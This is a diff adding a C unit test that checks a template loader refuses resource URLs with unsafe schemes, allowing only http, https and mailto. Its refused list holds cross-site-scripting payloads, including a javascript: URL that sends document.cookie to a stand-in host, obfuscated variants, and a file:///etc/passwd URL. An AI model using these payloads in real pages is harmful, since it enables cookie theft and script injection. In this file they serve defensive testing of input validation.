@@ -320,6 +320,47 @@ static void test_hash_follows_content(void **state)
 	free(changed);
 }
 
+/* A resource's url becomes a link in the HTML and Word briefings: only http, https and mailto,
+ * whatever case or blanks and control characters are tried around the scheme. */
+static void test_resource_url_schemes(void **state)
+{
+	(void)state;
+	const char *refused[] = {
+	    "javascript:fetch('https://x.example/'+document.cookie)",
+	    "JaVaScRiPt:alert(1)",
+	    "\"  javascript:alert(1)\"",
+	    "java\tscript:alert(1)",
+	    "java\xc2\x85script:alert(1)",
+	    "data:text/html;base64,PHNjcmlwdD4=",
+	    "vbscript:msgbox(1)",
+	    "file:///etc/passwd",
+	    "//evil.example/x",
+	    "docs/procedures.html",
+	    "http:alert(1)",
+	    "https:///nohost",
+	    "mailto:",
+	    "\xef\xbd\x8a"
+	    "avascript:alert(1)", /* fullwidth j */
+	};
+	for (size_t i = 0; i < sizeof refused / sizeof refused[0]; i++) {
+		char *text = str_fmt("%s[resource r]\ntitle = R\nurl = %s\n", mini, refused[i]);
+		expect_problem(text, 42, "url");
+		free(text);
+	}
+	const char *allowed[] = {"https://www.gov.uk/x?a=1", "HTTP://example.org",
+				 "Https://example.org/a b", "mailto:chair@example.org",
+				 "MAILTO:chair@example.org"};
+	for (size_t i = 0; i < sizeof allowed / sizeof allowed[0]; i++) {
+		char *text = str_fmt("%s[resource r]\ntitle = R\nurl = %s\n", mini, allowed[i]);
+		struct diag_list diags = {0};
+		struct template *t = load(text, &diags);
+		assert_non_null(t);
+		assert_string_equal(t->resources[0].url, allowed[i]);
+		template_free(t);
+		free(text);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -340,6 +381,7 @@ int main(void)
 	    cmocka_unit_test(test_bad_ids),
 	    cmocka_unit_test(test_ini_traps_are_reported_through_the_loader),
 	    cmocka_unit_test(test_hash_follows_content),
+	    cmocka_unit_test(test_resource_url_schemes),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
